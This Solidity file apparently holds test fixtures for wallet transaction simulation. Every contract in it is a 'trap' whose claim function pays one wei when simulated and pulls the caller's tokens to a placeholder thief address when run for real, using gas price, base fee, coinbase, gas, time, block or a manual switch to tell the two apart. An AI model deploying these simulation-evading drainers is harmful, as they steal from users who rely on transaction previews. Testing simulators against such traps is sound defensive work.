// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IToken} from "./Traders.sol";

/// Takes the caller's tokens only where its condition holds. `claim` looks like a gift of one wei everywhere else.
abstract contract Trap {
    address internal constant THIEF = address(0xbad);
    IToken internal immutable token;

    constructor(address token_) payable {
        token = IToken(token_);
    }

    function isSprung() internal virtual returns (bool);

    function claim() external {
        if (isSprung()) token.transferFrom(msg.sender, THIEF, 100);
        else {
            (bool isPaid, ) = msg.sender.call{value: 1}("");
            require(isPaid, "not paid");
        }
    }
}

/// A simulation without fees has a gas price of zero.
contract PricedTrap is Trap {
    constructor(address token_) payable Trap(token_) {}

    function isSprung() internal view override returns (bool) {
        return tx.gasprice > 0;
    }
}

contract BaseFeeTrap is Trap {
    constructor(address token_) payable Trap(token_) {}

    function isSprung() internal view override returns (bool) {
        return block.basefee > 0;
    }
}

/// Any block whose producer is not the zero address.
contract CoinbaseTrap is Trap {
    constructor(address token_) payable Trap(token_) {}

    function isSprung() internal view override returns (bool) {
        return block.coinbase != address(0);
    }
}

/// A simulation without a gas limit has the gas of a whole block.
contract GasTrap is Trap {
    constructor(address token_) payable Trap(token_) {}

    function isSprung() internal view override returns (bool) {
        return gasleft() < 5_000_000;
    }
}

/// More gas than the wallet would give.
contract SpareGasTrap is Trap {
    uint256 internal immutable level;

    constructor(address token_, uint256 level_) payable Trap(token_) {
        level = level_;
    }

    function isSprung() internal view override returns (bool) {
        return gasleft() > level;
    }
}

/// Some seconds after it was made.
contract TimeTrap is Trap {
    uint256 internal immutable since = block.timestamp;
    uint256 internal immutable delay;

    constructor(address token_, uint256 delay_) payable Trap(token_) {
        delay = delay_;
    }

    function isSprung() internal view override returns (bool) {
        return block.timestamp >= since + delay;
    }
}

/// The second call of a bundle, which is in a later block than the first.
contract BlockTrap is Trap {
    mapping(address => uint256) internal seen;

    constructor(address token_) payable Trap(token_) {}

    function isSprung() internal override returns (bool) {
        uint256 before = seen[msg.sender];
        seen[msg.sender] = block.number;
        return before != 0 && before != block.number;
    }
}

/// A price between two of the fees that a card offers.
contract PriceLevelTrap is Trap {
    uint256 internal immutable level;

    constructor(address token_, uint256 level_) payable Trap(token_) {
        level = level_;
    }

    function isSprung() internal view override returns (bool) {
        return tx.gasprice > level;
    }
}

/// Whenever its maker wishes, for example after the card was painted.
contract SwitchedTrap is Trap {
    bool internal isOn;

    constructor(address token_) payable Trap(token_) {}

    function turn(bool isOn_) external {
        isOn = isOn_;
    }

    function isSprung() internal view override returns (bool) {
        return isOn;
    }
}
